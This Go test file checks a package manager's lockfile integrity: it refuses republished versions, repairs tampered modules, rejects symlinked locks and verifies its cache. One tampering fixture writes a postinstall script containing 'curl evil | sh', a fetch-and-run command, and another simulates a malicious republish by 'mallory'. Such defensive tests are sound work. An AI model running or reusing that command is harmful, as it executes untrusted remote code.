package cli

import (
	"context"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	legion "github.com/legion-registry/legion-go"
)

// The lock as a guarantee: integrity, verified trees, the shared cache.

var sriRE = regexp.MustCompile(`^sha512-[A-Za-z0-9+/]{86}==$`)

// installedHTTP is a project with legion-http@^1.2.0 installed (legion-core
// 1.4.0, legion-http 1.2.0, legion-log 0.3.2), with a cache of its own.
func installedHTTP(t *testing.T) (*fixture, *project) {
	t.Helper()
	fx := newFixture(t)
	p := newProject(t, fx)
	p.env = append(p.env, "LEGION_CACHE="+filepath.Join(p.home, "cache"))
	p.ok("pkg", "init")
	p.ok("pkg", "install", "legion-http@^1.2.0")
	return fx, p
}

// republish replaces legion-log@0.3.2 with other content under the same
// version: alice unpublishes the package, mallory publishes it again.
func republish(t *testing.T, fx *fixture) {
	t.Helper()
	ctx := context.Background()
	if err := fx.srv.Client(legion.WithToken(fx.aliceToken)).Unpublish(ctx, "legion-log"); err != nil {
		t.Fatal(err)
	}
	tok, err := fx.srv.AddUser("mallory", "mallory@example.com", "password123")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := fx.srv.Client(legion.WithToken(tok)).Publish(ctx, legion.PublishRequest{
		Name: "legion-log", Version: "0.3.2", Description: "Structured logging (now with telemetry)",
		License: "MIT", Readme: "# legion-log\n\nNow phones home.\n", Dependencies: map[string]string{},
	}); err != nil {
		t.Fatal(err)
	}
}

func TestIntegrityRecordedAndRepublishRefused(t *testing.T) {
	t.Parallel()
	fx, p := installedHTTP(t)
	lock, _, err := readLock(p.dir)
	if err != nil {
		t.Fatal(err)
	}
	if lock.LockfileVersion != 2 || len(lock.Packages) != 3 {
		t.Fatalf("lock: %+v", lock)
	}
	for name, lp := range lock.Packages {
		if !sriRE.MatchString(lp.Integrity) {
			t.Errorf("%s: integrity %q is not sha512-<base64>", name, lp.Integrity)
		}
		// The hash is over exactly what install wrote.
		if got := dirIntegrity(filepath.Join(p.dir, modulesDir, name)); got != lp.Integrity {
			t.Errorf("%s: legion_modules hashes to %s, the lock has %s", name, got, lp.Integrity)
		}
	}
	locked := lock.Packages["legion-log"].Integrity

	republish(t, fx)
	// A fresh checkout with an empty cache: the registry's content for the
	// locked version is not what the lock names.
	os.RemoveAll(filepath.Join(p.dir, modulesDir))
	os.RemoveAll(filepath.Join(p.home, "cache"))
	before := snapshot(t, p.dir)
	r := p.fails(ExitIntegrity, "pkg", "install", "--frozen")
	for _, want := range []string{"legion.lock has " + locked, ", the registry now serves sha512-", " for legion-log@0.3.2: the version was changed or republished"} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("--frozen on a republished version: stderr lacks %q:\n%s", want, r.stderr)
		}
	}
	sameSnapshot(t, before, snapshot(t, p.dir), "install --frozen of a republished version")
	// Without --frozen too, unless update names the package.
	p.fails(ExitIntegrity, "pkg", "install")
	sameSnapshot(t, before, snapshot(t, p.dir), "install of a republished version")
	p.ok("pkg", "update", "legion-log")
	lock, _, _ = readLock(p.dir)
	if got := lock.Packages["legion-log"].Integrity; got == locked || got != dirIntegrity(filepath.Join(p.dir, modulesDir, "legion-log")) {
		t.Errorf("after update legion-log: integrity %s (was %s)", got, locked)
	}
	if lock.Packages["legion-core"].Version != "1.4.0" {
		t.Errorf("update legion-log changed legion-core: %+v", lock.Packages["legion-core"])
	}
}

func TestFrozenReplacesModifiedModules(t *testing.T) {
	t.Parallel()
	fx, p := installedHTTP(t)
	mods := filepath.Join(p.dir, modulesDir)
	good := snapshot(t, mods)
	// An edited readme, an edited legion.json (same version), an added file.
	os.WriteFile(filepath.Join(mods, "legion-core", readmeFile), []byte("# pwned\n"), 0o644)
	meta := filepath.Join(mods, "legion-http", manifestFile)
	b, _ := os.ReadFile(meta)
	os.WriteFile(meta, []byte(strings.Replace(string(b), `"legion-log": "^0.3.0"`, `"legion-evil": "*"`, 1)), 0o644)
	os.WriteFile(filepath.Join(mods, "legion-log", "postinstall.sh"), []byte("curl evil | sh\n"), 0o755)

	r := p.fails(ExitError, "pkg", "list")
	if !strings.Contains(r.stderr, "3 problems") || strings.Count(r.stdout, "modified: its files do not match legion.lock") != 3 {
		t.Errorf("list of modified modules: %v", r)
	}
	p.fails(ExitError, "pkg", "audit")

	fx.srv.ResetRequests()
	r = p.ok("pkg", "install", "--frozen")
	for _, name := range []string{"legion-core@1.4.0", "legion-http@1.2.0", "legion-log@0.3.2"} {
		if !strings.Contains(r.stdout, "! "+name+": its files did not match legion.lock; replaced") {
			t.Errorf("--frozen output does not name %s:\n%s", name, r.stdout)
		}
	}
	after := snapshot(t, mods)
	for name, st := range good {
		if !st.mode.IsDir() && after[name].content != st.content {
			t.Errorf("%s not restored", name)
		}
	}
	if _, extra := after["legion-log/postinstall.sh"]; extra {
		t.Error("the added file survived install --frozen")
	}
	// The good content came from the cache: no request at all.
	if reqs := fx.srv.Requests(); len(reqs) != 0 {
		t.Errorf("repair from the cache made %d requests, first %s", len(reqs), reqs[0].Path)
	}
	p.ok("pkg", "list")
}

func TestFrozenOnMatchingTreeWritesNothing(t *testing.T) {
	t.Parallel()
	fx, p := installedHTTP(t)
	// Where the project lock would go, something that cannot be opened as
	// a file: any attempt to take the lock fails. (Tests may run as root,
	// for whom file modes do not stop writes.)
	if err := os.Mkdir(filepath.Join(p.dir, projectLockFile), 0o755); err != nil {
		t.Fatal(err)
	}
	before := snapshot(t, p.dir)
	fx.srv.ResetRequests()
	r := p.ok("pkg", "install", "--frozen")
	if r.stdout != "up to date, 3 packages installed\n" {
		t.Errorf("--frozen on a matching tree printed %q", r.stdout)
	}
	sameSnapshot(t, before, snapshot(t, p.dir), "install --frozen on a matching tree")
	if n := len(fx.srv.Requests()); n != 0 {
		t.Errorf("--frozen on a matching tree made %d requests", n)
	}
	// A tree that needs a change does take the lock (and so fails here).
	os.Remove(filepath.Join(p.dir, modulesDir, "legion-log", readmeFile))
	os.WriteFile(filepath.Join(p.dir, modulesDir, "legion-log", readmeFile), []byte("x\n"), 0o644)
	p.fails(ExitError, "pkg", "install", "--frozen")
}

// TestFrozenRefusalNeedsNoWriteAccess: on a project that cannot be
// written (here a directory where .legion-project.lock goes, since tests
// may run as root), --frozen with a lock it must refuse says what is wrong
// with the lock, as it does on a writable project, not that the project
// could not be locked.
func TestFrozenRefusalNeedsNoWriteAccess(t *testing.T) {
	t.Parallel()
	_, p := installedHTTP(t)
	if err := os.Mkdir(filepath.Join(p.dir, projectLockFile), 0o755); err != nil {
		t.Fatal(err)
	}
	p.write(manifestFile, strings.Replace(p.read(manifestFile), `"legion-http": "^1.2.0"`, `"legion-http": "^1.2.0", "legion-json": "^1.0.0"`, 1))
	before := snapshot(t, p.dir)
	r := p.fails(ExitError, "pkg", "install", "--frozen")
	want := "legion: install --frozen: legion.lock does not satisfy legion.json: legion.lock has no legion-json (myapp → legion-json@^1.0.0)"
	if !strings.HasPrefix(r.stderr, want) || strings.Contains(r.stderr, "locking the project") {
		t.Errorf("--frozen, out-of-date lock, read-only project:\n%s\nwant it to start with:\n%s", r.stderr, want)
	}
	sameSnapshot(t, before, snapshot(t, p.dir), "a refused --frozen install")
	os.Remove(filepath.Join(p.dir, lockFile))
	if r := p.fails(ExitError, "pkg", "install", "--frozen"); !strings.Contains(r.stderr, "legion.lock is missing") {
		t.Errorf("--frozen, no lock, read-only project: %s", r.stderr)
	}
}

func TestProjectLockNeverFollowsSymlink(t *testing.T) {
	t.Parallel()
	fx := newFixture(t)
	p := newProject(t, fx)
	p.ok("pkg", "init")
	victim := filepath.Join(p.home, "victim")
	if err := os.WriteFile(victim, []byte("keep me\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	elsewhere := filepath.Join(p.home, "created-elsewhere")
	for _, target := range []string{victim, elsewhere} {
		link := filepath.Join(p.dir, projectLockFile)
		os.Remove(link)
		if err := os.Symlink(target, link); err != nil {
			t.Fatal(err)
		}
		r := p.fails(ExitError, "pkg", "install", "legion-core")
		if !strings.Contains(r.stderr, "is a symbolic link; legion never follows it") {
			t.Errorf("stderr: %s", r.stderr)
		}
	}
	if b, _ := os.ReadFile(victim); string(b) != "keep me\n" {
		t.Errorf("the symlink's target was changed: %q", b)
	}
	if _, err := os.Lstat(elsewhere); err == nil {
		t.Error("a dangling symlink made legion create its target")
	}
}

func TestSharedCacheAndOffline(t *testing.T) {
	t.Parallel()
	fx := newFixture(t)
	cache := filepath.Join(t.TempDir(), "cache")
	first := newProject(t, fx)
	first.env = append(first.env, "LEGION_CACHE="+cache)
	first.ok("pkg", "init")
	first.ok("pkg", "install", "legion-http@^1.2.0")

	// A second project with the same legion.json and lock: nothing to
	// download, not even without --frozen.
	for _, args := range [][]string{{"pkg", "install"}, {"pkg", "install", "--frozen"}} {
		second := newProject(t, fx)
		second.env = append(second.env, "LEGION_CACHE="+cache)
		second.write(manifestFile, first.read(manifestFile))
		second.write(lockFile, first.read(lockFile))
		fx.srv.ResetRequests()
		r := second.ok(args...)
		if !strings.HasPrefix(r.stdout, "added 3 packages in ") {
			t.Errorf("%v: %s", args, r.stdout)
		}
		if reqs := fx.srv.Requests(); len(reqs) != 0 {
			t.Errorf("%v with a warm cache made %d requests, first %s", args, len(reqs), reqs[0].Path)
		}
	}

	// The registry down: --frozen with a warm cache works; --offline needs
	// no lock when the version lists are cached; --offline names what the
	// cache lacks.
	down := newProject(t, fx)
	down.env = append(down.env, "LEGION_CACHE="+cache, "LEGION_REGISTRY=http://127.0.0.1:1/api/v1")
	down.write(manifestFile, first.read(manifestFile))
	down.write(lockFile, first.read(lockFile))
	down.ok("pkg", "install", "--frozen")
	os.Remove(filepath.Join(down.dir, lockFile))
	os.RemoveAll(filepath.Join(down.dir, modulesDir))
	down.ok("pkg", "install", "--offline")
	if down.read(lockFile) != first.read(lockFile) {
		t.Errorf("--offline locked:\n%s\nwant:\n%s", down.read(lockFile), first.read(lockFile))
	}
	before := snapshot(t, down.dir)
	r := down.fails(ExitError, "pkg", "install", "--offline", "legion-json")
	if !strings.Contains(r.stderr, "--offline: the version list of legion-json is not in the cache") {
		t.Errorf("--offline miss: %s", r.stderr)
	}
	sameSnapshot(t, before, snapshot(t, down.dir), "a failed --offline install")

	// --prefer-offline reads the cached lists; a plain install asks.
	pre := newProject(t, fx)
	pre.env = append(pre.env, "LEGION_CACHE="+cache)
	pre.write(manifestFile, `{"name":"pre","dependencies":{"legion-http":"^1.0.0"}}`)
	fx.srv.ResetRequests()
	pre.ok("pkg", "install", "--prefer-offline")
	if reqs := fx.srv.Requests(); len(reqs) != 0 {
		t.Errorf("--prefer-offline made %d requests, first %s", len(reqs), reqs[0].Path)
	}
	os.Remove(filepath.Join(pre.dir, lockFile))
	fx.srv.ResetRequests()
	pre.ok("pkg", "install")
	if n := len(fx.srv.RequestsTo("GET", "/packages/*/versions")); n != 3 {
		t.Errorf("a plain install asked for %d version lists, want 3", n)
	}

	// A damaged cache entry is discarded and fetched again.
	lock, _, _ := readLock(first.dir)
	entry := (&contentCache{dir: cache}).entryPath(lock.Packages["legion-core"].Integrity)
	if err := os.WriteFile(filepath.Join(entry, readmeFile), []byte("tampered\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	third := newProject(t, fx)
	third.env = append(third.env, "LEGION_CACHE="+cache)
	third.write(manifestFile, first.read(manifestFile))
	third.write(lockFile, first.read(lockFile))
	fx.srv.ResetRequests()
	third.ok("pkg", "install", "--frozen")
	if reqs := fx.srv.Requests(); len(reqs) != 1 || reqs[0].Path != "/packages/legion-core/1.4.0/download" {
		t.Errorf("after damaging one entry: %v", reqs)
	}
	if got := dirIntegrity(entry); got != lock.Packages["legion-core"].Integrity {
		t.Error("the damaged entry was not replaced")
	}
	// cache verify finds a damaged entry; cache clean empties the cache.
	os.WriteFile(filepath.Join(entry, readmeFile), []byte("tampered again\n"), 0o644)
	r = third.ok("pkg", "cache", "verify")
	if !strings.Contains(r.stdout, "removed damaged ") || !strings.Contains(r.stdout, "3 entries") {
		t.Errorf("cache verify: %s", r.stdout)
	}
	keep := filepath.Join(cache, "not-legions.txt")
	os.WriteFile(keep, []byte("mine\n"), 0o644)
	r = third.ok("pkg", "cache", "clean")
	if _, err := os.Stat(keep); err != nil {
		t.Errorf("cache clean removed a file that is not legion's: %v", err)
	}
	if _, err := os.Stat(filepath.Join(cache, "index")); err == nil {
		t.Error("cache clean left the index")
	}
	if !strings.HasPrefix(r.stdout, "removed 2 entries") {
		t.Errorf("cache clean: %s", r.stdout)
	}
	if ents, _ := os.ReadDir(filepath.Join(cache, "content", "sha512")); len(ents) != 0 {
		// Shard directories may stay; entries may not.
		for _, e := range ents {
			if sub, _ := os.ReadDir(filepath.Join(cache, "content", "sha512", e.Name())); len(sub) != 0 {
				t.Errorf("cache clean left %s/%s", e.Name(), sub[0].Name())
			}
		}
	}
}

func TestLockWithoutHashes(t *testing.T) {
	t.Parallel()
	_, p := installedHTTP(t)
	v2 := p.read(lockFile)
	v1 := regexp.MustCompile(`\n\s*"integrity": "[^"]*",`).ReplaceAllString(strings.Replace(v2, `"lockfileVersion": 2`, `"lockfileVersion": 1`, 1), "")
	p.write(lockFile, v1)
	r := p.ok("pkg", "install", "--frozen")
	if !strings.Contains(r.stderr, "legion.lock has no integrity for legion-core@1.4.0, legion-http@1.2.0, legion-log@0.3.2: not verified") {
		t.Errorf("--frozen on a version-1 lock: %v", r)
	}
	if p.read(lockFile) != v1 {
		t.Error("--frozen rewrote a version-1 lock")
	}
	p.ok("pkg", "install")
	if got := p.read(lockFile); got != v2 {
		t.Errorf("install did not add the hashes:\n%s\nwant:\n%s", got, v2)
	}
}

func TestInstallDryRunQuietVerbose(t *testing.T) {
	t.Parallel()
	fx := newFixture(t)
	p := newProject(t, fx)
	p.ok("pkg", "init")
	before := snapshot(t, p.dir)
	r := p.ok("pkg", "install", "--dry-run", "legion-http@^1.2.0")
	want := "+ legion-core@1.4.0\n+ legion-http@1.2.0\n+ legion-log@0.3.2\ndry run, nothing written: would have added 3 packages\n"
	if r.stdout != want {
		t.Errorf("dry run printed:\n%s\nwant:\n%s", r.stdout, want)
	}
	sameSnapshot(t, before, snapshot(t, p.dir), "install --dry-run")
	if r := p.ok("pkg", "install", "--quiet", "legion-http@^1.2.0"); r.stdout != "" || r.stderr != "" {
		t.Errorf("--quiet printed: %v", r)
	}
	r = p.ok("pkg", "update", "--dry-run", "--json")
	if !strings.Contains(r.stdout, `"dryRun": true`) {
		t.Errorf("update --dry-run --json: %s", r.stdout)
	}
	p.fails(ExitUsage, "pkg", "install", "--quiet", "--verbose")
	p.fails(ExitUsage, "pkg", "install", "--offline", "--prefer-offline")
}

// TestCacheSharedByConcurrentProcesses: several legion processes filling
// one cache at once all succeed, and leave no damaged or partial entry.
func TestCacheSharedByConcurrentProcesses(t *testing.T) {
	t.Parallel()
	fx := newFixture(t)
	cache := filepath.Join(t.TempDir(), "cache")
	var projects []*project
	for i := 0; i < 6; i++ {
		p := newProject(t, fx)
		p.env = append(p.env, "LEGION_CACHE="+cache)
		p.write(manifestFile, `{"name":"app","dependencies":{"legion-http":"^1.2.0","legion-json":"^1.0.0"}}`)
		projects = append(projects, p)
	}
	results := make(chan result, len(projects))
	for _, p := range projects {
		go func() { results <- p.run("", "pkg", "install") }()
	}
	for range projects {
		if r := <-results; r.code != 0 {
			t.Errorf("a concurrent install failed: %v", r)
		}
	}
	r := projects[0].ok("pkg", "cache", "verify", "--json")
	if !strings.Contains(r.stdout, `"entries": 4,`) || !strings.Contains(r.stdout, `"damaged": []`) {
		t.Errorf("cache after concurrent installs: %s", r.stdout)
	}
	for _, p := range projects[1:] {
		if p.read(lockFile) != projects[0].read(lockFile) {
			t.Errorf("locks differ:\n%s\n%s", p.read(lockFile), projects[0].read(lockFile))
		}
	}
}
